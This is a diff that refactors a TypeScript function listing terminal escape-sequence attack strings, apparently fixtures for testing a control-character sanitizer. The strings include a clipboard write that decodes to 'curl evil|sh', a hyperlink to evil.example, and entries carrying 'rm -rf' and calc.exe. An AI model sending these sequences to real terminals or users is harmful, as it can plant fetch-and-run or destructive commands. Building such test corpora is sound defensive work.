@@ -18,66 +18,24 @@ export function controlsIn(text: string): number[] {
 export function terminalAttacks(): string[] {
   const escape = '\u001b'
   const csi = [
-    '2J',
-    '3J',
-    'H',
-    '1;1H',
-    '999A',
-    '999D',
-    '31m',
-    '0m',
-    '?25l',
-    '?1049h',
-    '?2004h',
-    '?1000h',
-    '6n',
-    'c',
-    '>c',
-    '5n',
-    '21t',
-    '8;1;1t',
-    '?69h',
-    '!p',
-    '20h',
-    '4h',
-    '2K',
-    '1L',
-    '99M',
-    '10@',
-    '10P',
-    'r',
-    's',
-    'u',
-    '?47h',
-    '=1h',
-  ].flatMap((body) => [`${escape}[${body}`, `\u009b${body}`])
+    '2J 3J H 1;1H 999A 999D 31m 0m ?25l ?1049h ?2004h ?1000h 6n c >c 5n 21t 8;1;1t ?69h !p 20h 4h 2K 1L',
+    '99M 10@ 10P r s u ?47h =1h',
+  ]
+    .flatMap((words) => words.split(' '))
+    .flatMap((body) => [`${escape}[${body}`, `\u009b${body}`])
   const osc = [
-    '0;title',
-    '2;title',
-    '8;;http://evil.example/',
-    '52;c;Y3VybCBldmlsfHNo',
-    '52;c;?',
-    '777;notify;a;b',
-    '9;a note',
-    '9;7;calc.exe',
-    '1337;File=inline=1:AAAA',
-    '1337;SetMark',
-    '4;1;?',
-    '10;?',
-    '11;#000000',
-    '50;?',
-    '104',
-    '133;A',
-    '633;E;rm -rf',
-    '7;file://evil/',
-    '1337;CopyToClipboard=',
-    '5522;type=read',
-  ].flatMap((body) => [
-    `${escape}]${body}\u0007`,
-    `${escape}]${body}${escape}\\`,
-    `\u009d${body}\u009c`,
-    `${escape}]${body}`,
-  ])
+    ['0;title', '2;title', '8;;http://evil.example/', '52;c;Y3VybCBldmlsfHNo', '52;c;?'],
+    ['777;notify;a;b', '9;a note', '9;7;calc.exe', '1337;File=inline=1:AAAA', '1337;SetMark', '4;1;?'],
+    ['10;?', '11;#000000', '50;?', '104', '133;A', '633;E;rm -rf', '7;file://evil/'],
+    ['1337;CopyToClipboard=', '5522;type=read'],
+  ]
+    .flat()
+    .flatMap((body) => [
+      `${escape}]${body}\u0007`,
+      `${escape}]${body}${escape}\\`,
+      `\u009d${body}\u009c`,
+      `${escape}]${body}`,
+    ])
   const strings = ['P', 'X', '^', '_', 'k'].flatMap((opener) => [
     `${escape}${opener}+q544e${escape}\\`,
     `${escape}${opener}$q"p`,
